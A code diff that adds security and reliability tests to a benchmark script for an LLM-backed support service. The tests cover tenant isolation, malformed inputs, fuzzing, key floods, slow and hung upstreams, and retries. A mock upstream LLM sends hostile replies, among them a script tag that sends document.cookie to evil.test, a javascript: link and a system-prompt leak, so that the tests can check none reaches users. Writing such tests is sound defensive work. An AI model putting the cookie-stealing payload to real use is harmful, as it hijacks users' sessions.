@@ -13,14 +13,22 @@ in another (``empathic serve``), both on 127.0.0.1.
 3. Upstream LLM down, slow, or answering garbage: every request still gets a reply (composer
    fallback) within the timeout, and the failure is counted in /metrics.
 4. SIGKILL mid-load: every turn the server acknowledged is in the store after a restart.
+5. Security and reliability (issue 17): a tenant matrix (keys x endpoints), the probe's malformed
+   inputs and a schema fuzz (no 5xx), the server's memory under 10,000 random bad keys, a
+   dripping upstream against the deadline, /healthz while 50 upstream calls hang, hostile
+   upstream replies (none may reach a customer), retried requests (no duplicate turn).
+6. Open loop: the most analyze messages and turns per second the server sustains, then Poisson
+   arrivals at 70% of each: p99 latency. Two workers against one on PostgreSQL (turns/s).
 
-The last line printed is one JSON object with the figures.
+The last line printed is one JSON object with the figures. ``--only security`` runs part 5,
+``--only openloop`` part 6.
 """
 
 from __future__ import annotations
 
 import argparse
 import asyncio
+import contextlib
 import http.server
 import json
 import os
@@ -62,13 +70,18 @@ class Connection:
         self.reader: asyncio.StreamReader | None = None
         self.writer: asyncio.StreamWriter | None = None
 
-    async def request(self, method: str, path: str, body: dict | None = None,
-                      timeout: float = 30.0) -> tuple[int, bytes]:  # fmt: skip
+    async def request(self, method: str, path: str, body: dict | bytes | None = None,
+                      timeout: float = 30.0, headers: dict[str, str] | None = None,
+                      ) -> tuple[int, bytes]:  # fmt: skip
         if self.writer is None:
             self.reader, self.writer = await asyncio.open_connection("127.0.0.1", self.port)
-        payload = json.dumps(body).encode() if body is not None else b""
+        if isinstance(body, bytes):
+            payload = body
+        else:
+            payload = json.dumps(body).encode() if body is not None else b""
+        extra = "".join(f"{k}: {v}\r\n" for k, v in (headers or {}).items())
         head = (f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {len(payload)}\r\n"
-                "Content-Type: application/json\r\n\r\n").encode()  # fmt: skip
+                f"Content-Type: application/json\r\n{extra}\r\n").encode()  # fmt: skip
         self.writer.write(head + payload)
         try:
             return await asyncio.wait_for(self._response(), timeout)
@@ -409,6 +422,538 @@ def bench_sigkill(db_url: str, conversations: int, seconds: float) -> dict:
     return {"acknowledged": checked, "lost": lost}
 
 
+# -- 5. security and reliability (issue 17) ---------------------------------------------------
+
+
+def _keys(db_url: str) -> dict[tuple[str, str], dict[str, str]]:
+    """Keys of tenants a and b, each as chat and operator, as request headers."""
+    from empathic.store import Store
+
+    store = Store(db_url)
+    try:
+        return {
+            (tenant, role): {"Authorization": "Bearer "
+                             + store.create_key(f"{tenant}-{role}", None, tenant, role)[0]}
+            for tenant in ("a", "b") for role in ("chat", "operator")
+        }  # fmt: skip
+    finally:
+        store.close()
+
+
+def rss_mib(pid: int) -> float:
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith("VmRSS:"):
+            return int(line.split()[1]) / 1024
+    return float("nan")
+
+
+CRISIS = "I can't take it anymore, I want to end my life."
+
+
+def bench_tenants(db_url: str) -> dict:
+    """Every key of one tenant against every endpoint touching the other tenant's data: a leak
+    is any answer that reads, changes or reveals it (a 2xx, or its id in the body)."""
+    keys = _keys(db_url)
+    with Server(db_url, "--require-keys") as server:
+
+        async def run() -> tuple[int, int]:
+            c = Connection(server.port)
+            ids = {}
+            for tenant in ("a", "b"):
+                cid = f"secret-{tenant}-{random.randrange(10**9)}"
+                ids[tenant] = cid
+                await c.request("POST", "/v1/conversations", {"id": cid},
+                                headers=keys[(tenant, "chat")])  # fmt: skip
+                await c.request("POST", f"/v1/conversations/{cid}/messages", {"text": CRISIS},
+                                headers=keys[(tenant, "chat")])  # fmt: skip
+            events = {}
+            for tenant in ("a", "b"):
+                _, body = await c.request("GET", "/v1/handoffs", headers=keys[(tenant, "operator")])
+                events[tenant] = json.loads(body)["handoffs"][0]["id"]
+            leaks = checks = 0
+            for (tenant, _role), headers in keys.items():
+                other = "b" if tenant == "a" else "a"
+                cid, event = ids[other], events[other]
+                probes = [
+                    ("GET", f"/v1/conversations/{cid}", None, {}),
+                    ("POST", f"/v1/conversations/{cid}/messages", {"text": "hi"}, {}),
+                    ("GET", "/v1/conversations", None, {}),
+                    ("GET", "/v1/handoffs", None, {}),
+                    ("GET", "/v1/dashboard", None, {}),
+                    ("POST", f"/v1/handoffs/{event}/resolve", None, {}),
+                    ("POST", "/v1/chat/completions",
+                     {"messages": [{"role": "user", "content": "hi"}]},
+                     {"X-Empathic-Conversation": cid}),
+                    ("POST", "/v1/chat/completions",
+                     {"messages": [{"role": "user", "content": "hi"}],
+                      "metadata": {"conversation_id": cid}}, {}),
+                    ("GET", f"/v1/operator/conversations/{cid}", None, {}),
+                    ("POST", f"/v1/operator/conversations/{cid}/claim", None, {}),
+                ]  # fmt: skip
+                for method, path, body, extra in probes:
+                    status, text = await c.request(method, path, body, headers={**headers, **extra})
+                    checks += 1
+                    # An error may name the id it was asked about; a 2xx must not reach it.
+                    reveals = cid.encode() in text or CRISIS.encode() in text
+                    leaks += 200 <= status < 300 and (reveals or cid in path or bool(extra)
+                                                      or "metadata" in (body or {}))  # fmt: skip
+            c.close()
+            return leaks, checks
+
+        leaks, checks = asyncio.run(run())
+    return {"tenant_leaks": leaks, "tenant_checks": checks}
+
+
+BAD_INPUTS: list[tuple[str, str, bytes]] = [
+    ("POST", "/v1/analyze", b'{"text": "hi", "history": ["\\\\ud800"]}'),
+    ("POST", "/v1/analyze", b'{"texts": ["ok", "\\\\udfff x"]}'),
+    (
+        "POST",
+        "/v1/chat/completions",
+        b'{"messages": [{"role": "user", "content": "hi"}], "metadata": {"conversation_id": "\\\\ud800"}}',
+    ),
+    (
+        "POST",
+        "/v1/chat/completions",
+        b'{"messages": [{"role": "user", "content": [{"type": "text", "text": 5}]}]}',
+    ),
+    (
+        "POST",
+        "/v1/chat/completions",
+        b'{"messages": [{"role": "user", "content": [{"type": "text", "text": {"a": 1}}]}]}',
+    ),
+    ("POST", "/v1/chat/completions", b'{"messages": [{"role": "user", "content": "\\\\ud83d"}]}'),
+    ("GET", "/v1/conversations?offset=99999999999999999999999", b""),
+    ("GET", "/v1/conversations?offset=-1", b""),
+    ("POST", "/v1/handoffs/99999999999999999999999/resolve", b""),
+    ("POST", "/v1/handoffs/2147483648/resolve", b""),
+    ("GET", "/v1/conversations/a%00b", b""),
+    ("GET", "/v1/conversations/a%2Fb", b""),
+    ("POST", "/v1/conversations", b'{"id": "a/b"}'),
+    ("POST", "/v1/conversations", b'{"id": "nul\\\\u0000"}'),
+    ("POST", "/v1/conversations", b'{"id": "' + b"x" * 129 + b'"}'),
+    ("POST", "/v1/conversations/x%00/messages", b'{"text": "hi"}'),
+    ("POST", "/v1/conversations/known/messages", b'{"text": "a\\\\u0000b"}'),
+    ("POST", "/v1/conversations/known/messages", b'{"text": 12}'),
+    ("POST", "/v1/conversations/known/messages", b'{"text": "\\\\ud800"}'),
+    ("GET", "/v1/dashboard?hours=nan", b""),
+    ("GET", "/v1/dashboard?hours=1e309", b""),
+    ("POST", "/v1/analyze", b"\\xff\\xfe not json"),
+    ("POST", "/v1/analyze", b'{"texts": []}'),
+    ("POST", "/v1/analyze", b"[]"),
+    ("POST", "/v1/chat/completions", b'{"messages": []}'),
+    ("POST", "/v1/chat/completions", b'{"messages": [{"role": 5}]}'),
+    (
+        "POST",
+        "/v1/chat/completions",
+        b'{"messages": [{"role": "user", "content": "hi"}], "user": 7}',
+    ),
+]
+
+
+def bench_bad_inputs(db_url: str) -> dict:
+    with Server(db_url, "--open") as server:
+
+        async def run() -> int:
+            c = Connection(server.port)
+            await c.request("POST", "/v1/conversations", {"id": "known"})
+            errors = 0
+            for method, path, body in BAD_INPUTS:
+                status, _ = await c.request(method, path, body)
+                errors += status >= 500
+            c.close()
+            return errors
+
+        return {"bad_input_server_errors": asyncio.run(run()), "bad_inputs": len(BAD_INPUTS)}
+
+
+def bench_fuzz(db_url: str, examples: int) -> dict:
+    """Schemathesis over every operation of the OpenAPI schema, in process: 5xx answers."""
+    import schemathesis
+    from hypothesis import HealthCheck, given, settings
+
+    from empathic.config import EmpathicConfig
+    from empathic.serve import create_app
+
+    config = EmpathicConfig.load(serving={"db_url": db_url, "open": True, "rate_limit": 0},
+                                 responding={"knowledge_base": "demo"})  # fmt: skip
+    app = create_app(config)
+    schema = schemathesis.openapi.from_asgi("/openapi.json", app)
+    errors = calls = 0
+    for result in schema.get_all_operations():
+        operation = result.ok()
+
+        @given(case=operation.as_strategy())
+        @settings(max_examples=examples, deadline=None, derandomize=True, database=None,
+                  suppress_health_check=list(HealthCheck))  # fmt: skip
+        def call(case) -> None:
+            nonlocal errors, calls
+            calls += 1
+            errors += case.call().status_code >= 500
+
+        call()
+    return {"fuzz_server_errors": errors, "fuzz_calls": calls}
+
+
+def bench_bad_key_flood(db_url: str, requests: int) -> dict:
+    """RSS of the server before and after ``requests`` requests, each with a random bad key
+    (well-formed, so each could cost a lookup), 50 at a time."""
+    _keys(db_url)
+    with Server(db_url, "--require-keys") as server:
+        asyncio.run(warm_keyed(server.port))
+        before = rss_mib(server.process.pid)
+
+        async def run() -> dict[int, int]:
+            codes: dict[int, int] = {}
+            sent = 0
+
+            async def client() -> None:
+                nonlocal sent
+                c = Connection(server.port)
+                while sent < requests:
+                    sent += 1
+                    key = "emp_" + "".join(
+                        random.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=43)
+                    )
+                    try:
+                        status, _ = await c.request("POST", "/v1/analyze", {"text": "hi"},
+                                                    headers={"Authorization": f"Bearer {key}"})  # fmt: skip
+                    except (OSError, ConnectionError, TimeoutError, ValueError):
+                        status = 0
+                    codes[status] = codes.get(status, 0) + 1
+                c.close()
+
+            await asyncio.gather(*(client() for _ in range(50)))
+            return codes
+
+        codes = asyncio.run(run())
+        after = rss_mib(server.process.pid)
+    return {"rss_growth_mib_bad_key_flood": round(after - before, 2),
+            "bad_key_flood_codes": {str(k): v for k, v in sorted(codes.items())}}  # fmt: skip
+
+
+async def warm_keyed(port: int) -> None:
+    connection = Connection(port)
+    for _ in range(20):
+        await connection.request("GET", "/healthz")
+        await connection.request("POST", "/v1/analyze", {"text": "hi"},
+                                 headers={"X-API-Key": "emp_" + "0" * 43})  # fmt: skip
+    connection.close()
+
+
+class _Scripted(http.server.BaseHTTPRequestHandler):
+    """An upstream LLM: ``drip`` (the body a byte at a time over 30 s), ``hang`` (nothing for
+    60 s) or ``hostile`` (each answer one of HOSTILE, the system prompt echoed for 'leak')."""
+
+    mode = "hostile"
+    counter = 0
+
+    def do_POST(self):  # noqa: N802 - http.server's naming
+        payload = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))))
+        type(self).counter += 1
+        reply = HOSTILE[self.counter % len(HOSTILE)]
+        if reply == "LEAK":
+            reply = "Of course. Here is everything I was told: " + payload["messages"][0]["content"]
+        body = json.dumps(
+            {"choices": [{"message": {"role": "assistant", "content": reply}}]}
+        ).encode()
+        try:
+            if self.mode == "hang":
+                time.sleep(60)
+            self.send_response(200)
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            if self.mode == "drip":
+                for i in range(len(body)):
+                    self.wfile.write(body[i : i + 1])
+                    self.wfile.flush()
+                    time.sleep(30 / len(body))
+            else:
+                self.wfile.write(body)
+        except OSError:
+            pass
+
+    def log_message(self, *args):
+        pass
+
+
+HOSTILE = [
+    "You are an idiot. Read the tracking page yourself.",
+    "LEAK",
+    "Your parcel is late. <script>document.location='//evil.test/'+document.cookie</script>",
+    "I am so sorry" + ", truly sorry" * 8000 + ".",
+    "Honestly, not my problem. Deal with it.",
+    "Click [here](javascript:alert(1)) to track it. ![x](http://evil.test/pixel.png)",
+]
+
+
+def _upstream(mode: str) -> tuple[http.server.ThreadingHTTPServer, str]:
+    handler = type("Upstream", (_Scripted,), {"mode": mode, "counter": 0})
+    upstream = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), handler)
+    upstream.daemon_threads = True
+    threading.Thread(target=upstream.serve_forever, daemon=True).start()
+    return upstream, f"http://127.0.0.1:{upstream.server_address[1]}/v1"
+
+
+def bench_drip(db_url: str, timeout: float, requests: int) -> dict:
+    upstream, url = _upstream("drip")
+    with Server(db_url, "--open", "--backend", url, "--timeout", str(timeout)) as server:
+
+        async def run() -> tuple[list[float], int]:
+            latencies: list[float] = []
+            stored = 0
+
+            async def one(i: int) -> None:
+                nonlocal stored
+                c = Connection(server.port)
+                cid = f"drip-{i}-{random.randrange(10**9)}"
+                await c.request("POST", "/v1/conversations", {"id": cid})
+                start = time.perf_counter()
+                await c.request("POST", f"/v1/conversations/{cid}/messages",
+                                {"text": MESSAGES[i % 8]}, timeout=120)  # fmt: skip
+                latencies.append(time.perf_counter() - start)
+                _, body = await c.request("GET", f"/v1/conversations/{cid}")
+                stored += json.loads(body)["turn_count"]
+                c.close()
+
+            await asyncio.gather(*(one(i) for i in range(requests)))
+            return latencies, stored
+
+        latencies, stored = asyncio.run(run())
+    upstream.shutdown()
+    return {"drip_upstream_max_s": round(max(latencies), 2), "drip_timeout_s": timeout,
+            "drip_turns_stored": stored, "drip_requests": requests}  # fmt: skip
+
+
+def bench_hung(db_url: str, hung: int, timeout: float) -> dict:
+    upstream, url = _upstream("hang")
+    tag = f"hung{random.randrange(10**6)}"
+    with Server(db_url, "--open", "--backend", url, "--timeout", str(timeout)) as server:
+
+        async def run() -> list[float]:
+            async def stuck(i: int) -> None:
+                c = Connection(server.port)
+                with contextlib.suppress(OSError, ConnectionError, TimeoutError, ValueError):
+                    await c.request("POST", f"/v1/conversations/{tag}-{i}/messages",
+                                    {"text": "hello"}, timeout=timeout + 30)  # fmt: skip
+                c.close()
+
+            c = Connection(server.port)
+            for i in range(hung):
+                await c.request("POST", "/v1/conversations", {"id": f"{tag}-{i}"})
+            tasks = [asyncio.create_task(stuck(i)) for i in range(hung)]
+            await asyncio.sleep(1.0)  # every call is now waiting on the upstream
+            latencies = []
+            until = time.perf_counter() + min(timeout - 2, 6)
+            while time.perf_counter() < until:
+                start = time.perf_counter()
+                await c.request("GET", "/healthz")
+                latencies.append(time.perf_counter() - start)
+                await asyncio.sleep(0.01)
+            c.close()
+            await asyncio.gather(*tasks)
+            return latencies
+
+        latencies = asyncio.run(run())
+    upstream.shutdown()
+    return {"healthz_p99_ms_under_hung_upstream": round(percentile(latencies, 0.99) * 1000, 2),
+            "hung_upstream_calls": hung, "healthz_probes": len(latencies)}  # fmt: skip
+
+
+def bench_hostile(db_url: str, requests: int) -> dict:
+    """Turns and proxied completions against an upstream answering only HOSTILE replies: a reply
+    reaching the client that the guard would refuse (or holding a hostile marker) is unchecked."""
+    from empathic.check.guard import guard
+
+    upstream, url = _upstream("hostile")
+    markers = ("idiot", "<script", "not my problem", "javascript:", "everything I was told",
+               "truly sorry, truly sorry")  # fmt: skip
+    with Server(db_url, "--open", "--backend", url, "--timeout", "5") as server:
+
+        async def run() -> tuple[int, int, dict[str, int]]:
+            c = Connection(server.port)
+            unchecked = total = 0
+            sources: dict[str, int] = {}
+            for i in range(requests):
+                if i % 2:
+                    status, body = await c.request("POST", "/v1/chat/completions", {
+                        "messages": [{"role": "user", "content": MESSAGES[i % 8]}]}, timeout=60)  # fmt: skip
+                    data = json.loads(body)
+                    text, source = (
+                        data["choices"][0]["message"]["content"],
+                        data["empathic"]["source"],
+                    )
+                else:
+                    cid = f"hostile-{i}-{random.randrange(10**9)}"
+                    await c.request("POST", "/v1/conversations", {"id": cid})
+                    status, body = await c.request("POST", f"/v1/conversations/{cid}/messages",
+                                                   {"text": MESSAGES[i % 8]}, timeout=60)  # fmt: skip
+                    data = json.loads(body)
+                    text, source = data["reply"]["text"], data["reply"]["source"]
+                total += 1
+                sources[source] = sources.get(source, 0) + 1
+                bad = any(m in text for m in markers) or not guard(text).passed
+                unchecked += bad
+            c.close()
+            return unchecked, total, sources
+
+        unchecked, total, sources = asyncio.run(run())
+    upstream.shutdown()
+    return {
+        "unchecked_llm_outputs": unchecked,
+        "hostile_replies": total,
+        "hostile_sources": sources,
+    }
+
+
+def bench_retries(db_url: str, requests: int) -> dict:
+    """Each request sent twice at once and once more after (Idempotency-Key on turns; a
+    resent identical OpenAI request): turns stored beyond one per request are duplicates."""
+    from empathic.store import Store
+
+    with Server(db_url, "--open") as server:
+
+        async def run() -> list[str]:
+            c = Connection(server.port)
+            ids = []
+            for i in range(requests):
+                cid = f"retry-{i}-{random.randrange(10**9)}"
+                ids.append(cid)
+                await c.request("POST", "/v1/conversations", {"id": cid})
+                key = {"Idempotency-Key": f"{cid}-k"}
+                body = {"text": MESSAGES[i % 8]}
+                path = f"/v1/conversations/{cid}/messages"
+                a, b = Connection(server.port), Connection(server.port)
+                await asyncio.gather(a.request("POST", path, body, headers=key, timeout=60),
+                                     b.request("POST", path, body, headers=key, timeout=60))  # fmt: skip
+                a.close()
+                b.close()
+                await c.request("POST", path, body, headers=key, timeout=60)
+                chat = {"model": "empathic", "user": cid,
+                        "messages": [{"role": "user", "content": MESSAGES[i % 8]}]}  # fmt: skip
+                first = json.loads((await c.request("POST", "/v1/chat/completions", chat))[1])
+                await c.request("POST", "/v1/chat/completions", chat)
+                ids.append(first["empathic"]["conversation_id"])
+            c.close()
+            return ids
+
+        ids = asyncio.run(run())
+    store = Store(db_url)
+    try:
+        duplicates = sum(max(0, (store.turn_count(cid) or 0) - 1) for cid in ids)
+    finally:
+        store.close()
+    return {"duplicate_turns_on_retry": duplicates, "retried_requests": requests * 2}
+
+
+# -- 6. open loop at 70% of the measured maximum ---------------------------------------------
+
+
+async def open_loop(port: int, rate: float, seconds: float, request) -> dict:
+    """Poisson arrivals at ``rate`` per second for ``seconds``; each on a free keep-alive
+    connection (a new one when all are busy). ``request(connection, i)`` sends one."""
+    idle: list[Connection] = []
+    latencies: list[float] = []
+    errors = 0
+    tasks = []
+
+    async def one(i: int) -> None:
+        nonlocal errors
+        connection = idle.pop() if idle else Connection(port)
+        start = time.perf_counter()
+        try:
+            ok = await request(connection, i)
+            errors += not ok
+            idle.append(connection)
+        except (OSError, ConnectionError, TimeoutError, ValueError):
+            errors += 1
+            connection.close()
+        latencies.append(time.perf_counter() - start)
+
+    until = time.perf_counter() + seconds
+    i = 0
+    next_at = time.perf_counter()
+    while next_at < until:
+        delay = next_at - time.perf_counter()
+        if delay > 0:
+            await asyncio.sleep(delay)
+        tasks.append(asyncio.create_task(one(i)))
+        i += 1
+        next_at += random.expovariate(rate)
+    await asyncio.gather(*tasks)
+    for connection in idle:
+        connection.close()
+    return {"rate": round(rate, 1), "sent": i, "p50_ms": round(percentile(latencies, 0.5) * 1000, 2),
+            "p99_ms": round(percentile(latencies, 0.99) * 1000, 2), "errors": errors}  # fmt: skip
+
+
+def bench_open_loop(db_url: str, seconds: float) -> dict:
+    with Server(db_url, "--open") as server:
+        asyncio.run(warm(server.port))
+        closed = asyncio.run(load(server.port, "POST", "/v1/analyze",
+                                  lambda i: {"text": MESSAGES[i % len(MESSAGES)]}, 50, seconds))  # fmt: skip
+        max_analyze = closed["rps"]
+
+        async def analyze(c: Connection, i: int) -> bool:
+            status, _ = await c.request("POST", "/v1/analyze", {"text": MESSAGES[i % 8]})
+            return status == 200
+
+        analyze_run = asyncio.run(open_loop(server.port, 0.7 * max_analyze, seconds, analyze))
+
+        tag = f"ol{random.randrange(10**6)}"
+
+        async def prepare() -> None:
+            c = Connection(server.port)
+            for n in range(200):
+                await c.request("POST", "/v1/conversations", {"id": f"{tag}-{n}"})
+            c.close()
+
+        asyncio.run(prepare())
+        started = time.perf_counter()
+        asyncio.run(converse(server.port, 50, 6, f"{tag}x"))
+        max_turns = 50 * 6 / (time.perf_counter() - started)
+
+        async def turn(c: Connection, i: int) -> bool:
+            status, _ = await c.request("POST", f"/v1/conversations/{tag}-{i % 200}/messages",
+                                        {"text": MESSAGES[i % 8]}, timeout=60)  # fmt: skip
+            return status == 200
+
+        turn_run = asyncio.run(open_loop(server.port, 0.7 * max_turns, seconds, turn))
+    return {"max_throughput_msgs_per_s": max_analyze, "max_turns_per_s": round(max_turns, 1),
+            "open_loop_analyze": analyze_run, "open_loop_turns": turn_run,
+            "p99_analyze_ms": analyze_run["p99_ms"], "p99_turn_ms": turn_run["p99_ms"]}  # fmt: skip
+
+
+def bench_scale(db_url: str, turns: int) -> dict:
+    one = bench_conversations(db_url, 50, turns, 1)
+    two = bench_conversations(db_url, 50, turns, 2)
+    return {"turns_per_s_1_worker_postgres": one["turns_per_s"],
+            "turns_per_s_2_workers_postgres": two["turns_per_s"],
+            "scale_2_workers": round(two["turns_per_s"] / max(one["turns_per_s"], 1e-9), 2)}  # fmt: skip
+
+
+def security_figures(work: Path, quick: bool) -> dict:
+    figures: dict = {}
+    steps = [
+        ("tenant matrix", lambda: bench_tenants(f"sqlite:///{work / 'tenants.db'}")),
+        ("malformed inputs", lambda: bench_bad_inputs(f"sqlite:///{work / 'bad.db'}")),
+        ("schema fuzz", lambda: bench_fuzz(f"sqlite:///{work / 'fuzz.db'}", 15 if quick else 40)),
+        ("bad-key flood", lambda: bench_bad_key_flood(f"sqlite:///{work / 'flood.db'}", 10_000)),
+        ("dripping upstream (timeout 2 s)",
+         lambda: bench_drip(f"sqlite:///{work / 'drip.db'}", 2.0, 10)),
+        ("50 hung upstream calls", lambda: bench_hung(f"sqlite:///{work / 'hung.db'}", 50, 10.0)),
+        ("hostile upstream replies",
+         lambda: bench_hostile(f"sqlite:///{work / 'hostile.db'}", 12 if quick else 24)),
+        ("retries", lambda: bench_retries(f"sqlite:///{work / 'retry.db'}", 5 if quick else 15)),
+    ]  # fmt: skip
+    for name, step in steps:
+        row = step()
+        print(f"  {name}: {row}", flush=True)
+        figures.update(row)
+    return figures
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--quick", action="store_true", help="shorter runs")
@@ -416,12 +961,18 @@ def main() -> None:
                         help="PostgreSQL URL for the conversation test (its tables are reused)")  # fmt: skip
     parser.add_argument("--clients", type=int, default=50)
     parser.add_argument("--workers", type=int, default=1, help="server worker processes")
+    parser.add_argument("--only", choices=["security", "openloop"],
+                        help="run only part 5 (security) or part 6 (open loop, scaling)")  # fmt: skip
     args = parser.parse_args()
     seconds = 5.0 if args.quick else 15.0
     turns = 5 if args.quick else 20
     work = Path(tempfile.mkdtemp(prefix="empathic-bench-"))
     sqlite = f"sqlite:///{work / 'bench.db'}"
     figures: dict = {}
+    if args.only:
+        figures = partial(args, work, seconds, turns)
+        print(json.dumps(figures))
+        return
 
     print(f"load: {args.clients} concurrent clients, {seconds:.0f} s per endpoint, "
           f"{args.workers} server worker(s)", flush=True)  # fmt: skip
@@ -479,11 +1030,39 @@ def main() -> None:
         "fallback_ok": faults["fallback_ok"],
         "sigkill_acknowledged": killed["acknowledged"],
         "sigkill_turns_lost": killed["lost"],
+        "lost_turns_sigkill": killed["lost"],
         "clients": args.clients,
         "workers": args.workers,
         "quick": args.quick,
     }
+    args.only = None
+    figures.update(partial(args, work, seconds, turns))
     print(json.dumps(figures))
+
+
+def partial(args: argparse.Namespace, work: Path, seconds: float, turns: int) -> dict:
+    """Parts 5 and 6 (issue 17's figures); ``args.only`` picks one of them."""
+    figures: dict = {}
+    if args.only in (None, "security"):
+        print("security and reliability:", flush=True)
+        figures.update(security_figures(work, args.quick))
+        if args.only:
+            killed = bench_sigkill(f"sqlite:///{work / 'kill.db'}", 20, 2.0 if args.quick else 4.0)
+            print(f"  SIGKILL mid-load: {killed}", flush=True)
+            figures["lost_turns_sigkill"] = killed["lost"]
+    if args.only in (None, "openloop"):
+        print("open loop at 70% of the measured maximum:", flush=True)
+        row = bench_open_loop(f"sqlite:///{work / 'open.db'}", seconds)
+        print(f"  {row}", flush=True)
+        figures.update(row)
+        if args.postgres:
+            scale = bench_scale(args.postgres, max(turns // 2, 4))
+            print(f"  two workers on PostgreSQL: {scale}", flush=True)
+            figures.update(scale)
+        else:
+            figures["scale_2_workers"] = None
+            print("  scaling skipped (no --postgres / EMPATHIC_TEST_POSTGRES_URL)", flush=True)
+    return figures
 
 
 if __name__ == "__main__":
